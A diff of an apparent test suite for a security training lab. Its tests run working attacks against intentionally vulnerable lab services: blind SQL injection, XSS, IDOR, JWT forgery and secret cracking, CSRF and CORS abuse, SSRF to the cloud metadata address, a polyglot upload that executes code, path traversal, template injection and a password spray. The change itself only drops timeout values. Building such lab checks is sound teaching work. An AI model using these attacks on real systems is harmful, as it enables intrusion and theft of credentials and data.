@@ -138,7 +138,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     const blind = (condition: string) => run(`curl -s -G --data-urlencode "id=1 AND ${condition}" ${shop}/stock`);
     expect(await blind(`substr((SELECT api_key FROM staff WHERE username='ops'), 9, 1) = '9'`)).toBe('in stock\n');
     expect(await blind(`substr((SELECT api_key FROM staff WHERE username='ops'), 9, 1) = '8'`)).toBe('not available\n');
-  }, 120_000);
+  });
 
   it('shop: reflected and stored XSS come back unescaped; the remember-me cookie has no HttpOnly', async () => {
     expect(await run(`curl -s -G --data-urlencode 'q=<script>alert(1)</script>' ${shop}/search`)).toContain(
@@ -151,7 +151,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     const cookies = await run(`curl -si -d 'username=alice&password=wonderland' ${shop}/login | grep -i '^set-cookie'`);
     expect(cookies).toMatch(/^Set-Cookie: shop_sid=[0-9a-f]{24}; Path=\/; HttpOnly; SameSite=Lax\r?$/m);
     expect(cookies).toMatch(/^Set-Cookie: keep_me=[0-9a-f]{40}; Path=\/; Max-Age=2592000; SameSite=Lax\r?$/m);
-  }, 120_000);
+  });
 
   it("invoices: alice's token reads other customers' invoices (IDOR)", async () => {
     await run(
@@ -164,7 +164,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
       '"customer": 1050, "email": "p.moreau@example.fr"',
     );
     expect(await run(`curl -s -o /dev/null -w '%{http_code}' ${invoices}/api/invoices/7723`)).toBe('401');
-  }, 120_000);
+  });
 
   it('invoices: a JWT with "alg":"none" is accepted, a changed signed one is not, and the secret is in the word list', async () => {
     await run(
@@ -186,7 +186,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     const crack =
       'grep -x -B3 butterfly wordlist.txt | while read -r word; do [ "$(printf %s "$signed" | openssl dgst -sha256 -hmac "$word" -binary | basenc --base64url | tr -d =)" = "$signature" ] && echo "$word"; done';
     expect(await run(crack)).toBe('butterfly\n');
-  }, 180_000);
+  });
 
   it('bank: a cross-site transfer without a token goes through; the email form checks its token; CORS trusts a prefix', async () => {
     expect(
@@ -203,7 +203,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
       run(`curl -s -o /dev/null -D - -b jar -H 'Origin: ${origin}' ${bank}/api/account | grep -ci '^access-control'`);
     expect(await cors('http://bank.lab.internal.attacker.example')).toBe('2\n');
     expect(await cors('http://attacker.example')).toBe('0\n');
-  }, 120_000);
+  });
 
   it('avatars: the importer reaches the metadata service that ignores the learner (SSRF); IMDSv2 stops the thumbnail importer', async () => {
     expect(await run('curl -s -m 2 http://169.254.169.254/latest/meta-data/; echo "exit $?"')).toBe('exit 28\n');
@@ -214,7 +214,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     expect(await run(`curl -s -d '${roles}' http://thumbs.lab.internal/api/thumbnail/import`)).toBe(
       '{"error": "the server answered 401"}\n',
     );
-  }, 120_000);
+  });
 
   it('avatars: a GIF that is also Python, uploaded as .py.gif, runs on the server', async () => {
     expect(await run('curl -s -F avatar=@avatar.py.gif http://avatars.lab.internal/upload')).toBe(
@@ -224,7 +224,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     expect(await run(`printf 'GIF89a' > x.php; curl -s -F avatar=@x.php http://avatars.lab.internal/upload`)).toBe(
       'Rejected: only .gif, .png, .jpg and .jpeg files\n',
     );
-  }, 120_000);
+  });
 
   it('support: path traversal past a ".." filter, and template injection to a module secret', async () => {
     expect(await run(`curl -s '${support}/manual?name=../deploy.env'`)).toBe('Bad name\n');
@@ -234,7 +234,7 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     expect(
       await run(`curl -s -G --data-urlencode 'template={user.__init__.__globals__[SIGNING_KEY]}' ${support}/card`),
     ).toBe('11011d4fd94db2e7dfa6f052\n');
-  }, 120_000);
+  });
 
   it('support: both logins tell users apart (by message, by size), one locks an account after 5 failures, and a spray gets through', async () => {
     const login = (user: string, password: string) =>
@@ -251,5 +251,5 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
       `for u in b.osei c.moretti h.larsen k.abara; do curl -s -d "username=$u&password=Spring2026%21" ${support}/login; done`,
     );
     expect(spray).toBe('Welcome, b.osei\nWrong password\nWelcome, h.larsen\nWrong password\n');
-  }, 120_000);
+  });
 });
